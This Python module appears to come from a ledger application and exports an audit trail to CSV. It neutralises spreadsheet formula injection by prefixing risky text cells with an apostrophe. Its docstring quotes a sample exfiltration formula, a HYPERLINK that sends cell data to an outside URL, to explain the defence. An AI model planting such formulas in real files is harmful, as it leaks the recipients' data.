"""The audit trail as CSV, safe to open in a spreadsheet.

The CSV carries what the JSON carries: an `opening` row first (the balance
right before the range), every entry, and a `closing` row last (the balance
at its end, `closing - opening` = the sum of the postings), all under the
documented columns.

Text written by clients (descriptions, metadata, reasons) goes into cells an
auditor's spreadsheet may evaluate: a cell starting with `=`, `+`, `-`, `@`,
a tab or a carriage return (after any leading spaces) is a formula there
(`=HYPERLINK("http://…"&A1,"ok")` sends the sheet's data away). Such text
cells are written with a leading `'`, which spreadsheets show as text and
the JSON export never needs; numbers are written as numbers.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from datetime import datetime
from typing import Any

from ledgerflow.audit.trail import AUDIT_FIELDS, AuditTrail

#: What makes a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: str) -> str:
    """A text cell no spreadsheet evaluates."""
    return f"'{value}" if value.lstrip(" ").startswith(FORMULA_STARTS) else value


def _cell(value: Any) -> Any:
    if isinstance(value, datetime):
        return value.isoformat()
    if isinstance(value, dict | list):
        return neutralise(json.dumps(value, sort_keys=True, ensure_ascii=False))
    if isinstance(value, str):
        return neutralise(value)
    return value


def _balance_row(trail: AuditTrail, kind: str, at: datetime, balance: int) -> dict[str, Any]:
    row: dict[str, Any] = dict.fromkeys(AUDIT_FIELDS)
    row |= {
        "kind": kind,
        "recorded_at": at,
        "account_id": trail.account_id,
        "amount": 0,
        "currency": trail.currency,
        "balance_after": balance,
        "metadata": {},
    }
    return row


def trail_csv(trail: AuditTrail) -> str:
    out = io.StringIO()
    # RFC 4180 line ends: a field holding either \r or \n is then quoted.
    writer = csv.DictWriter(out, fieldnames=AUDIT_FIELDS, lineterminator="\r\n")
    writer.writeheader()
    rows = [
        _balance_row(trail, "opening", trail.start, trail.opening_balance),
        *(dataclasses.asdict(entry) for entry in trail.entries),
        _balance_row(trail, "closing", trail.end, trail.closing_balance),
    ]
    for row in rows:
        writer.writerow({name: _cell(value) for name, value in row.items()})
    return out.getvalue()
